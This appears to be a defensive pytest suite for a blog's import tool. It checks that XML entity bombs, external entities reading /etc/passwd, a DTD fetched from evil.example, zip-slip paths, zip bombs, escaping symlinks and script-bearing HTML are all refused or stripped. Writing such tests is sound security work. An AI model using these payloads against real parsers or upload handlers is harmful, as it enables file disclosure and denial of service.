"""Files made to harm whoever reads them: entities, bombs, ways out of the folder."""

import io
import stat
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from blog.models import Post
from blog.transfer import package
from blog.transfer.from_html import Losses, TooMuchMarkup, to_markdown
from blog.transfer.ghost.stream import GhostRows
from blog.transfer.package import Package, PackageRefused
from blog.transfer.reading import FormatRefused
from blog.transfer.wordpress import stream
from blog.transfer.wordpress.stream import Splitter
from tests.blog.transfer.moving import bring, line_of, outcomes, post_of
from tests.wxr import wxr, wxr_item

BOMB = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
DOCTYPES = {
    "entity bomb": f"<!DOCTYPE rss [{BOMB}]>",
    "external entity": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external definition": '<!DOCTYPE rss SYSTEM "https://evil.example/x.dtd">',
    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1/x"> %p;]>',
}


class TestXml:
    @pytest.mark.django_db
    @pytest.mark.parametrize("doctype", DOCTYPES.values(), ids=list(DOCTYPES))
    def test_a_document_type_is_refused_before_it_is_read(
        self, tmp_path: Path, doctype: str
    ) -> None:
        file = tmp_path / "old.xml"
        text = wxr(wxr_item(1, content="&l9;&x;"))
        file.write_text(text.replace("?>\n<rss", f"?>\n{doctype}\n<rss", 1))

        with pytest.raises(FormatRefused, match="document type of its own"):
            bring("wordpress", file)

        assert not Post.objects.exists()

    @pytest.mark.django_db
    def test_a_document_type_between_two_items_is_refused_too(self, tmp_path: Path) -> None:
        file = tmp_path / "old.xml"
        file.write_text(wxr(wxr_item(1), DOCTYPES["external entity"], wxr_item(2)))

        with pytest.raises(FormatRefused):
            bring("wordpress", file)

    @pytest.mark.django_db
    def test_a_post_may_speak_of_document_types_and_items(self, tmp_path: Path) -> None:
        file = tmp_path / "old.xml"
        said = "<p>&lt;!DOCTYPE html&gt;</p> <!DOCTYPE x> </item><item> ]]]]><![CDATA[> end"
        file.write_text(wxr(wxr_item(1, content=said), wxr_item(2)))

        report = bring("wordpress", file)

        assert outcomes(report, "post") == {"created": 2}
        assert post_of("1").body.endswith("end")

    @pytest.mark.django_db
    def test_an_entity_that_nobody_declared_means_nothing(self, tmp_path: Path) -> None:
        file = tmp_path / "old.xml"
        file.write_text(wxr(wxr_item(1).replace("<![CDATA[Post 1]]>", "A&xxe;B &amp; C")))

        bring("wordpress", file)

        assert post_of("1").title == "A&xxe;B & C"

    @pytest.mark.django_db
    def test_an_item_without_end_is_passed_over(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(stream, "MAX_ITEM_BYTES", 100_000)
        file = tmp_path / "old.xml"
        file.write_text(wxr(wxr_item(1), wxr_item(2, content="x" * 200_000), wxr_item(3)))

        report = bring("wordpress", file)

        assert outcomes(report, "post") == {"created": 2, "failed": 1}
        assert "longer than 32 MB" in line_of(report, "old.xml, item 2").reason

    @pytest.mark.django_db
    @pytest.mark.parametrize("cut", [0.3, 0.55, 0.9])
    def test_a_download_that_broke_off_brings_what_is_whole(
        self, tmp_path: Path, cut: float
    ) -> None:
        items = [wxr_item(number) for number in range(1, 6)]
        text = wxr(*items)
        file = tmp_path / "old.xml"
        file.write_text(text[: int(len(text) * cut)])

        report = bring("wordpress", file)

        whole = text[: int(len(text) * cut)].count("</item>")
        assert outcomes(report, "post").get("created", 0) == whole
        assert [line.reason for line in report.lines if line.outcome == "failed"] == [
            "The file ends in the middle of it: the export or its download broke off."
        ]

    @pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 1000])
    def test_items_are_found_wherever_a_piece_ends(
        self, monkeypatch: pytest.MonkeyPatch, size: int
    ) -> None:
        text = wxr(wxr_item(1, content="</item><item>"), "<!-- <item> -->", wxr_item(2)).encode()
        whole = list(Splitter().split(io.BytesIO(text)))

        monkeypatch.setattr(stream, "_PIECE", size)

        assert list(Splitter().split(io.BytesIO(text))) == whole
        assert [piece.is_item for piece in whole] == [False, True, False, True, False]


class TestArchives:
    def _zip(self, tmp_path: Path, *entries: tuple[zipfile.ZipInfo | str, bytes]) -> Path:
        path = tmp_path / "x.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries:
                archive.writestr(name, content)
        return path

    def test_what_it_holds_is_unpacked_and_gone_afterwards(self, tmp_path: Path) -> None:
        path = self._zip(tmp_path, ("blog/_posts/a.md", b"a"), ("blog/img/b.png", b"b"))

        with package.opened(path) as files:
            root = files.root
            assert files.names() == ["_posts/a.md", "img/b.png"]

        assert not root.exists()

    @pytest.mark.parametrize(
        "name", ["../out.md", "/etc/out.md", "a/../../out.md", "C:/out.md", "..\\out.md"]
    )
    def test_a_name_that_leads_out_is_refused(self, tmp_path: Path, name: str) -> None:
        path = self._zip(tmp_path, ("a.md", b"a"), (name, b"b"))

        with pytest.raises(PackageRefused, match="leads out of it"), package.opened(path):
            pass

        assert not (tmp_path / "out.md").exists()

    def test_a_bomb_is_refused_while_it_unpacks(self, tmp_path: Path) -> None:
        path = self._zip(tmp_path, ("bomb.md", bytes(60_000_000)))
        assert path.stat().st_size < 100_000

        with pytest.raises(PackageRefused, match="fill the disk"), package.opened(path):
            pass

    def test_many_small_bombs_are_one_bomb(self, tmp_path: Path) -> None:
        path = self._zip(tmp_path, *((f"{n}.md", bytes(5_000_000)) for n in range(8)))

        with pytest.raises(PackageRefused, match="fill the disk"), package.opened(path):
            pass

    def test_a_header_that_lies_about_the_size_is_not_believed(self, tmp_path: Path) -> None:
        path = self._zip(tmp_path, ("bomb.md", bytes(60_000_000)))
        raw = bytearray(path.read_bytes())
        at = raw.rindex(b"PK\x01\x02")
        raw[at + 24 : at + 28] = (10).to_bytes(4, "little")
        path.write_bytes(raw)

        with pytest.raises(PackageRefused), package.opened(path):
            pass

    def test_too_many_entries_are_refused(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(package, "MAX_ENTRIES", 3)
        path = self._zip(tmp_path, *((f"{n}.md", b"") for n in range(4)))

        with pytest.raises(PackageRefused, match="4 entries"), package.opened(path):
            pass

    def test_links_and_inner_archives_are_left_out(self, tmp_path: Path) -> None:
        link = zipfile.ZipInfo("link.md")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        path = self._zip(
            tmp_path, (link, b"/etc/passwd"), ("inner.zip", b"PK"), ("a/b.md", b"x"), ("c.md", b"y")
        )

        with package.opened(path) as files:
            assert files.names() == ["a/b.md", "c.md"]

    @pytest.mark.parametrize("name", [".", "./."])
    def test_an_entry_without_a_name_is_left_out(self, tmp_path: Path, name: str) -> None:
        path = self._zip(tmp_path, (zipfile.ZipInfo(name), b"x"), ("a.md", b"x"))

        with package.opened(path) as files:
            assert files.names() == ["a.md"]

    @pytest.mark.parametrize("damage", [b"PK\x03\x04 nothing", b""])
    def test_a_damaged_archive_is_refused_in_words(self, tmp_path: Path, damage: bytes) -> None:
        path = self._zip(tmp_path, ("a.md", b"a" * 5000))
        raw = bytearray(path.read_bytes())
        raw[30:60] = damage.ljust(30, b"\0")
        path.write_bytes(raw)

        with pytest.raises(PackageRefused, match="damaged, encrypted"), package.opened(path):
            pass


class TestFolders:
    def test_a_link_that_leads_out_of_the_folder_is_not_followed(self, tmp_path: Path) -> None:
        (tmp_path / "secret.md").write_text("secret")
        blog = tmp_path / "blog"
        blog.mkdir()
        (blog / "link.md").symlink_to(tmp_path / "secret.md")
        (blog / "own.md").write_text("own")

        files = Package(blog)

        assert files.names() == ["own.md"]
        assert files.path("link.md") is None
        assert files.path("../secret.md") is None
        assert files.path("/" + str(tmp_path / "secret.md")) is None

    @pytest.mark.parametrize(
        ("address", "found"),
        [
            ("/wp-content/uploads/2019/05/a.jpg", True),
            ("/blog/wp-content/uploads/2019/05/a.jpg", True),
            ("/uploads/b.jpg", True),
            ("/other/b.jpg", False),
            ("/2019/05/../../../secret", False),
            ("/\x00/2019/05/a.jpg", True),
        ],
    )
    def test_a_picture_is_found_by_the_end_of_its_address(
        self, tmp_path: Path, address: str, found: bool
    ) -> None:
        uploads = tmp_path / "uploads"
        (uploads / "2019/05").mkdir(parents=True)
        (uploads / "2019/05/a.jpg").touch()
        (uploads / "b.jpg").touch()

        assert (Package(uploads).find(address) is not None) == found


class TestMarkup:
    @pytest.mark.parametrize(
        "markup",
        ["<div>" * 5000, "<ul><li>" * 1500, "<blockquote>" * 3000],
    )
    def test_what_stands_too_deep_is_refused(self, markup: str) -> None:
        with pytest.raises(TooMuchMarkup, match="too deep"):
            to_markdown(f"{markup}text", Losses())

    @pytest.mark.parametrize(
        "piece", ["<a ", "<!--", "<![CDATA[", "&#", "</", "<p title='", "<img "]
    )
    def test_a_text_made_of_beginnings_ends(self, piece: str) -> None:
        to_markdown(piece * 20_000, Losses())

    def test_nothing_that_runs_survives(self) -> None:
        text = to_markdown(
            "<script>a()</script><img src=x onerror=b()><a href='javascript:c()'>d</a>"
            "<iframe src='javascript:e()'></iframe><svg onload=f()></svg><style>g</style>",
            Losses(),
        )

        assert text == "![](x)[d](javascript:c\\(\\))".replace("\\(\\)", "%28%29")


class TestJson:
    def test_a_row_without_end_is_refused_before_it_fills_the_memory(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        from blog.transfer.ghost import stream as ghost_stream

        monkeypatch.setattr(ghost_stream, "MAX_ROW_CHARACTERS", 1_000_000)
        endless = io.StringIO('{"data":{"posts":[{"html":"' + "x" * 5_000_000)

        with pytest.raises(FormatRefused):
            list(GhostRows(endless).rows())

    def test_many_rows_need_the_memory_of_one(self, tmp_path: Path) -> None:
        file = tmp_path / "x.json"
        with file.open("w") as out:
            out.write('{"db":[{"meta":{"version":"5.0.0"},"data":{"posts":[')
            row = '{"id":"1","html":"' + "x" * 2000 + '"}'
            out.write(",".join([row] * 20_000))
            out.write("]}}]}")
        assert file.stat().st_size > 40_000_000

        tracemalloc.start()
        with file.open() as text:
            count = sum(1 for _ in GhostRows(text).rows())
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()

        assert count == 20_001
        assert peak < 2_000_000
